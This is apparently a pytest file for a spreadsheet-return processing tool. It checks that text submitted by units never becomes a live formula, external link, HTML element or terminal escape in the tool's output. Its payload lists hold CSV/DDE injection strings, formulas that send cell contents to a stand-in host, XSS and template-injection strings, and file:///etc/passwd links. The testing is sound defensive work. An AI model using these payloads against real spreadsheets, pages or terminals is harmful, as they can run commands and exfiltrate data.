"""What a unit wrote never becomes a formula, a link or markup in what we write: OWASP's strings through the whole chain.

https://owasp.org/www-community/attacks/CSV_Injection and OWASP's XSS filter evasion cheat sheet.
"""

from __future__ import annotations

import csv
import json
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from shijibu.figures.evaluation import Row
from shijibu.returns.grid import Grid
from shijibu.returns.package import Package, walk
from shijibu.returns.reader import read
from shijibu.spreadsheet.limits import Limits
from tests import command
from tests.county import County

Q1 = "2026-Q1"
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=1+1\",\"", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1+1)", "{=1+1}",
    "';=1+1", "\";=1+1;\"", "=SHIJI.VERSION()", "=cmd|'/c calc'!A1", "=DDE(\"cmd\";\"/c calc\";\"x\")", "-2+3+cmd|'/c calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0", "=HYPERLINK(\"http://198.51.100.7/?\"&A1,\"点此\")", "=WEBSERVICE(\"http://198.51.100.7/\"&A1)",
    "=IMPORTXML(CONCAT(\"http://198.51.100.7/\",A1),\"//a\")",
)
MARKUP = (
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "'><svg/onload=alert(1)>", "javascript:alert(1)",
    "</td></table><iframe src=//198.51.100.7>假公告</iframe>", "<!--", "]]>", "<a href=\"javascript:alert(1)\">x</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "{{7*7}}", "{% include '/etc/passwd' %}", "${7*7}", "&amp;", "\\u003cscript\\u003e",
)
LINKS = (
    "http://198.51.100.7/x", "https://198.51.100.7", "ftp://198.51.100.7/a", "mailto:a@example.com", "internal:封面!A1", "external:C:\\a.xlsx",
    "file:///etc/passwd",
)
STRINGS = (*FORMULAS, *MARKUP, *LINKS)
TEXTS = {"tasks": ("title", "evidence"), "projects": ("title", "target", "evidence"), "records": ("work", "result", "evidence"),
         "questions": ("asked_by", "question", "answer")}
TYPED = ("category", "weight", "owner", "responsible", "planned", "deadline")


def run(*arguments: object, cwd: Path) -> str:
    done = command.run(*arguments, cwd=cwd)
    assert done.returncode in (0, 1), done.stderr
    assert "Traceback" not in done.stderr + done.stdout
    return done.stdout


def hostile_rows(county: County, unit: str) -> dict[str, list[Row]]:
    """Every string in every text column; the rows are otherwise in order."""
    rows = county.rows(Q1, unit)
    head = county.roster.team(unit)[0].id
    for table, columns in TEXTS.items():
        room = county.book(Q1, unit).places[table]
        plain = rows[table]
        rows[table] = [Row(n, dict(plain[(n - 1) % len(plain)].values)) for n in range(1, min(len(STRINGS), room.last - room.header) + 1)]
        for n, row in enumerate(rows[table]):
            row.values |= {"owner": head} if "owner" in row.values else {}
            row.values |= {column: STRINGS[(n + i * 7) % len(STRINGS)] for i, column in enumerate(columns)}
    return rows


@pytest.fixture(scope="module")
def chain(tmp_path_factory) -> tuple[County, Path]:
    """D01 returned the strings as texts and is accepted; D02 wrote them where numbers, dates and names belong, and is rejected."""
    county = County.made(tmp_path_factory.mktemp("county"))
    county.issue(Q1)
    county.returned(Q1, "D01", rows=hostile_rows(county, "D01"))
    typed = {f"tasks[{n}].{column}": STRINGS[(n + 5 * i) % len(STRINGS)] for n in range(1, 40) for i, column in enumerate(TYPED)}
    county.returned(Q1, "D02", set=typed)
    out = county.folder / "out"
    ledger = ("--ledger", county.ledger_url)
    checked = run("check", county.inbox(Q1), "--annotate", out / "copies", "--json", *ledger, cwd=county.folder)
    out.joinpath("check.json").write_text(checked, encoding="utf-8")
    run("consolidate", county.inbox(Q1), "--scheme", "deqing", "--period", Q1, "--out", out / "result", *ledger, cwd=county.folder)
    head = county.roster.team("D01")[0].id
    out.joinpath("explain.json").write_text(run("explain", "D01", "--json", *ledger, cwd=county.folder), encoding="utf-8")
    out.joinpath("explain.txt").write_text(run("explain", head, *ledger, cwd=county.folder), encoding="utf-8")
    run("file", head, "--out", out / "person", *ledger, cwd=county.folder)
    return county, out


def workbooks(chain: tuple[County, Path]) -> list[Path]:
    found = sorted(chain[1].rglob("*.xlsx"))
    assert len(found) >= 4, found
    return found


def texts_of(grid: Grid) -> set[str]:
    return {cell.value for sheet in grid.sheets for cell in sheet.cells.values() if isinstance(cell.value, str) and cell.formula is None}


def formulas_of(grid: Grid) -> set[str]:
    return {cell.formula for sheet in grid.sheets for cell in sheet.cells.values() if cell.formula is not None}


def test_d01_is_accepted_and_d02_rejected_so_that_both_ways_are_walked(chain):
    files = {f["unit"]: f for f in json.loads((chain[1] / "check.json").read_text(encoding="utf-8"))["files"]}
    assert (files["D01"]["status"], files["D02"]["status"]) == ("accepted", "rejected")
    assert len(files["D02"]["problems"]) > 150


def test_no_formula_that_we_write_holds_a_units_text(chain):
    """In the clean copies, the report and the person's file every formula is one of our own."""
    for file in workbooks(chain):
        for formula in formulas_of(read(file.read_bytes())):
            assert not any(s.strip().lstrip("=") in formula for s in (*FORMULAS, *MARKUP, *LINKS) if len(s.strip()) > 5), (file.name, formula)


def test_no_workbook_that_we_write_links_outside(chain):
    for file in workbooks(chain):
        package = Package(file.read_bytes(), Limits())
        outside: list[str] = []

        def start(tag: str, attributes: dict[str, str], outside: list[str] = outside) -> None:
            if attributes.get("TargetMode") == "External" or (tag == "hyperlink" and "location" not in attributes):
                outside.append(str(attributes))

        for name in package.names:
            if name.endswith((".rels", ".xml")):
                walk(package.chunks(name), name, start)
        assert outside == [], file.name


def shown(chain: tuple[County, Path], wanted: str) -> set[str]:
    return set().union(*(texts_of(read(f.read_bytes())) for f in workbooks(chain) if wanted in f.as_posix()))


def test_the_clean_copy_shows_every_text_unchanged(chain):
    assert shown(chain, "D01") >= {s.replace("\r", "\n") for s in STRINGS}


def test_the_report_shows_texts_as_texts(chain):
    """Of the rejected return the values that are wrong, of the accepted one what the county's sheets list."""
    told = "\n".join(shown(chain, "report.xlsx"))
    assert "<script>alert(1)</script>" in told and "=cmd|'/c calc'!A1" in told


def test_results_and_explanation_hold_the_texts_as_json_texts(chain):
    told = json.loads((chain[1] / "explain.json").read_text(encoding="utf-8"))
    assert "=cmd|'/c calc'!A1" in json.dumps(told, ensure_ascii=False)
    values = [p["value"] for f in json.loads((chain[1] / "check.json").read_text(encoding="utf-8"))["files"] for p in f["problems"]]
    assert set(values) >= {s.strip() for s in MARKUP}
    json.loads((chain[1] / "result" / "results.json").read_text(encoding="utf-8"))


class Tags(HTMLParser):
    """What a browser would make of a page: its elements, attributes, and text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.seen: list[tuple[str, str]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.seen += [(tag, name) for name, _ in attributes] or [(tag, "")]
        for name, value in attributes:
            assert not name.startswith("on") and "javascript:" not in (value or "") and "198.51.100.7" not in (value or "")

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def test_no_page_that_we_write_has_an_element_of_a_units_making(chain):
    pages = sorted(chain[1].rglob("*.html"))
    assert {p.parent.name for p in pages} >= {"result", "person"}
    for page in pages:
        parser = Tags()
        parser.feed(page.read_text(encoding="utf-8"))
        # A person's chart, and the brief's links to what lies beside it; an attribute that runs is refused above.
        own = {"svg"} if "person" in page.as_posix() else {"a"} if page.name == "领导简报.html" else set()
        assert not {tag for tag, _ in parser.seen} & {"script", "img", "svg", "a", "iframe", "object"} - own, page.name
        if "person" in page.as_posix():
            assert "<script>alert(1)</script>" in "".join(parser.text)


def test_what_is_sampled_to_csv_runs_nowhere(tmp_path):
    """A list with the strings, sampled whole: no cell begins with what a spreadsheet program takes for a formula."""
    listed = tmp_path / "名单.csv"
    with listed.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([["编号", "姓名", "组"], *([str(n), s, "甲"] for n, s in enumerate(STRINGS))])
    for ending in ("csv", "xlsx"):
        run("sample", listed, "--strata", "组", "--size", len(STRINGS), "--seed", "1", "--out", tmp_path / f"out.{ending}", cwd=tmp_path)
    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert [c for c in cells if c.strip().startswith(tuple("=+-@＝＋－＠")) or c.startswith(("\t", "\r", "\n"))] == []
    assert {c.removeprefix("'") for c in cells} >= {s.strip() for s in STRINGS if not s.startswith("'")}
    grid: Any = read((tmp_path / "out.xlsx").read_bytes())
    assert formulas_of(grid) == set() and texts_of(grid) >= {s.strip() for s in STRINGS}


def test_an_escape_of_the_terminal_does_not_reach_it(chain, tmp_path):
    """A text may hold _x001B_: the character that turns a terminal's text red, or types for its owner."""
    county, _ = chain
    file = county.returned(Q1, "D03", set={"tasks[1].planned": "九\x1b]0;pwned\x07\x1b[31m\x9b31m成"}, name="escape.xlsx")
    told = run("check", file, "--ledger", county.ledger_url, cwd=tmp_path)
    assert "pwned" in told and not set(told) & {"\x1b", "\x07", "\x9b"}
